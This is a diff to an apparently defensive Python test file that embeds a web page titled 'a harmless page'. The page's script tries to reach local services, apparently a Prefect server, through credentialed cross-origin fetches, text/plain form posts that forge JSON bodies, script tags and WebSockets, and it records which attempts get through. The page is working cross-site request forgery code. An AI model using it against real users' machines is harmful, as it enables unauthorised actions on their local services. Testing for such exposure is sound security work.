@@ -7,8 +7,8 @@ from contextlib import contextmanager
 from typing import Any
 
 PAGE = """<!doctype html><title>a harmless page</title><body><script>
-const within = (milliseconds, promise) =>
-  Promise.race([promise, new Promise(resolve => setTimeout(() => resolve("nothing happened"), milliseconds))]);
+const within = (seconds, promise, otherwise) =>
+  Promise.race([promise, new Promise(resolve => setTimeout(() => resolve(otherwise), 1000 * seconds))]);
 
 async function byFetch(attack, mode, type) {
   const options = {method: attack.method, mode, credentials: "include"};
@@ -21,59 +21,60 @@ async function byFetch(attack, mode, type) {
 }
 
 function byForm(attack) {
-  const frame = document.body.appendChild(document.createElement("iframe"));
-  frame.name = "f" + Math.random();
+  const frame = document.createElement("iframe");
+  frame.name = "frame" + document.querySelectorAll("iframe").length;
+  document.body.appendChild(frame);
   const form = document.body.appendChild(document.createElement("form"));
   Object.assign(form, {method: "POST", enctype: "text/plain", action: attack.url, target: frame.name});
   const json = JSON.stringify(attack.body);
   const [name, value] = json.startsWith("{") ? [json.slice(0, -1) + (json === "{}" ? "" : ",") + '"_":"', '"}'] : [json, ""];
   form.appendChild(Object.assign(document.createElement("input"), {name, value}));
-  return within(5000, new Promise(resolve => {
+  return within(10, new Promise(resolve => {
     frame.onload = () => {
       try { resolve("read " + frame.contentDocument.body.innerText); } catch (error) { resolve("unreadable"); }
     };
     form.submit();
-  }));
+  }), "unreadable");
 }
 
 function bySocket(url, protocols, first) {
-  return within(10000, new Promise(resolve => {
+  return within(60, new Promise(resolve => {
     const socket = new WebSocket(url, protocols);
     socket.onopen = () => { first.forEach(message => socket.send(JSON.stringify(message))); };
     socket.onmessage = message => resolve("read " + message.data);
     socket.onclose = () => resolve("closed");
-  }));
+  }), "left open");
 }
 
 function byTag(url) {
-  return within(5000, new Promise(resolve => {
+  return within(60, new Promise(resolve => {
     const script = document.createElement("script");
     script.onload = () => resolve("read as a script");
     script.onerror = () => resolve("unreadable");
     script.src = url;
     document.body.appendChild(script);
-  }));
+  }), "no answer");
 }
 
 async function tryAll(attacks, sockets, event) {
-  const learnt = [];
-  const note = (name, way, what) => learnt.push({name, way, what});
+  const tries = [];
+  const note = (name, way, trying) => tries.push(trying.then(what => ({name, way, what})));
   for (const attack of attacks) {
-    note(attack.name, "cors json", await byFetch(attack, "cors", "application/json"));
-    note(attack.name, "cors plain", await byFetch(attack, "cors", "text/plain"));
-    note(attack.name, "cors", await byFetch(attack, "cors", null));
-    if (attack.method === "GET") note(attack.name, "script", await byTag(attack.url));
+    note(attack.name, "cors json", byFetch(attack, "cors", "application/json"));
+    note(attack.name, "cors plain", byFetch(attack, "cors", "text/plain"));
+    note(attack.name, "cors", byFetch(attack, "cors", null));
+    if (attack.method === "GET") note(attack.name, "script", byTag(attack.url));
     if (["GET", "POST"].includes(attack.method)) {
-      note(attack.name, "no-cors", await byFetch(attack, "no-cors", null));
-      note(attack.name, "no-cors plain", await byFetch(attack, "no-cors", "text/plain"));
+      note(attack.name, "no-cors", byFetch(attack, "no-cors", null));
+      note(attack.name, "no-cors plain", byFetch(attack, "no-cors", "text/plain"));
     }
-    if (attack.method === "POST") note(attack.name, "form", await byForm(attack));
+    if (attack.method === "POST") note(attack.name, "form", byForm(attack));
   }
   for (const url of sockets) {
-    note(url, "socket", await bySocket(url, [], [event]));
-    note(url, "prefect's socket", await bySocket(url, ["prefect"], [{type: "auth", token: ""}, event]));
+    note(url, "socket", bySocket(url, [], [event]));
+    note(url, "prefect's socket", bySocket(url, ["prefect"], [{type: "auth", token: ""}, event]));
   }
-  return learnt;
+  return Promise.all(tries);
 }
 </script>"""
 
